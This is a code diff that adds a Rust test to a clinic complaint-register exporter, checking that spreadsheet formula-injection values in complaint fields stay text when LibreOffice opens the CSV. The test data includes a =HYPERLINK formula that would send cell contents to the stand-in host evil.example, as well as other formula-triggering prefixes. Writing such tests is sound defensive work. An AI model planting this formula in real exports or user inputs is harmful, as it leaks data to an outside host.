@@ -347,3 +347,94 @@ fn the_register_command_writes_the_file_for_a_month_or_a_span() {
     let html = std::fs::read_to_string(dir.path().join("laporan-2026-11.html")).unwrap();
     assert!(html.contains("<svg") && html.contains("November 2026"));
 }
+
+/// Issue 18: a complainant's name or subject that a spreadsheet would compute
+/// (`=HYPERLINK(…)`, `+…`, `-…`, `@…`) stays text in the CSV register, even when
+/// LibreOffice is told to evaluate formulas while opening it; phone numbers stay readable.
+#[test]
+fn hostile_cells_in_the_csv_register_stay_text_in_libreoffice() {
+    let dir = tempfile::tempdir().unwrap();
+    let (p, mut s) = offline::pipeline(dir.path(), "");
+    let link = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")";
+    for (name, subject) in [
+        (link, "=1+1"),
+        ("+SUM(1,2)", "-2+3"),
+        ("@SUM(1,2)", "Antrean lama"),
+    ] {
+        p.record(
+            &mut s,
+            &ManualComplaint {
+                channel: Channel::Telepon,
+                lapor_number: None,
+                name: Some(name.into()),
+                address: None,
+                phone: Some("0812-3456-7890".into()),
+                email: None,
+                subject: Some(subject.into()),
+                text: "Antrean di loket lama sekali.".into(),
+                kind: None,
+                received_at: wib(11, 10, 9, 0),
+            },
+            "ella",
+            wib(11, 10, 9, 5),
+        )
+        .unwrap();
+    }
+    let file = register::file(
+        &s,
+        &p.calendar,
+        &Period::parse_month("2026-11").unwrap(),
+        SheetFormat::Csv,
+        "Puskesmas Kademangan",
+        wib(12, 1, 7, 0),
+    )
+    .unwrap();
+    let csv = dir.path().join(&file.name);
+    std::fs::write(&csv, &file.bytes).unwrap();
+
+    // CSV to a flat OpenDocument spreadsheet, importing with "evaluate formulas" on
+    // (token 13 of the CSV filter options): a formula cell would carry table:formula.
+    let out = tempfile::tempdir().unwrap();
+    let profile = tempfile::tempdir().unwrap();
+    let status = Command::new(SOFFICE)
+        .arg(format!(
+            "-env:UserInstallation=file://{}",
+            profile.path().display()
+        ))
+        .args([
+            "--headless",
+            "--norestore",
+            "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,0,true",
+            "--convert-to",
+            "fods",
+            "--outdir",
+        ])
+        .arg(out.path())
+        .arg(&csv)
+        .env("HOME", profile.path())
+        .output()
+        .expect("cannot run soffice");
+    assert!(status.status.success(), "soffice: {status:?}");
+    let fods = std::fs::read_to_string(
+        out.path()
+            .join(csv.with_extension("fods").file_name().unwrap()),
+    )
+    .unwrap();
+    assert!(!fods.contains("table:formula"), "a cell became a formula");
+    for text in [
+        "&apos;=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Klik&quot;)",
+        "&apos;+SUM(1,2)",
+        "&apos;-2+3",
+        "&apos;@SUM(1,2)",
+        "&apos;+6281234567890",
+    ] {
+        let plain = text
+            .replace("&apos;", "'")
+            .replace("&quot;", "\"")
+            .replace("&amp;", "&");
+        assert!(
+            fods.contains(text) || fods.contains(&plain),
+            "{plain} is shown as text: {fods}"
+        );
+    }
+}
